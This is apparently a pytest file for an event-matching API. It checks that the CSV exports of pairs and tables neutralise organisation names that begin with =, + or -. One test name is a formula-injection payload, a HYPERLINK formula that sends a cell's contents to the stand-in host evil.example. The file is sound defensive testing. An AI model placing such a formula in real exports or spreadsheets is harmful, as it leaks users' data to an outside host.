"""The organiser's CSV exports of pairs and tables, opened in a spreadsheet:
an organisation's name that looks like a formula is shown, never run."""

import asyncio
import csv
import io

import httpx

M = "/matching/editions/impact-2026"
NAMES = ['=HYPERLINK("http://evil.example/?leak="&A2,"Klik her")', "+45 Fonden", "-Mødrehjælpen"]


async def _day(api: httpx.AsyncClient, organizer) -> None:
    await api.post(
        "/registration/editions",
        json={"slug": "impact-2026", "title": "T", "date": "2030-05-01"},
        headers=organizer,
    )
    for name in NAMES:
        org = (
            await api.post(
                "/registration/organizations",
                json={"name": name, "size": "small", "regions": ["fyn"], "offers": ["data"]},
                headers=organizer,
            )
        ).json()["id"]
        registered = await api.post(
            "/registration/editions/impact-2026/registrations",
            headers=organizer,
            json={"organization_id": org, "participants": [{"name": "@P", "email": "p@x.org"}]},
        )
        assert registered.status_code == 201, registered.text
    for _ in range(100):  # until matching has made all three pairs
        page = (await api.get(f"{M}/recommendations", headers=organizer)).json()
        if len(page["items"]) == 3:
            return
        await asyncio.sleep(0.02)


def _rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


async def test_names_that_look_like_formulas_are_exported_as_text(api, organizer) -> None:
    await _day(api, organizer)
    safe = {"'" + name for name in NAMES}
    pairs = _rows(await api.get(f"{M}/recommendations.csv", headers=organizer))
    assert len(pairs) == 3
    assert {row["organization_a_name"] for row in pairs} | {
        row["organization_b_name"] for row in pairs
    } == safe
    assert all(float(row["score"]) > 0 for row in pairs)  # numbers stay numbers
    seats = _rows(await api.get(f"{M}/tables.csv?min_size=3&max_size=3", headers=organizer))
    assert {row["organization_name"] for row in seats} == safe
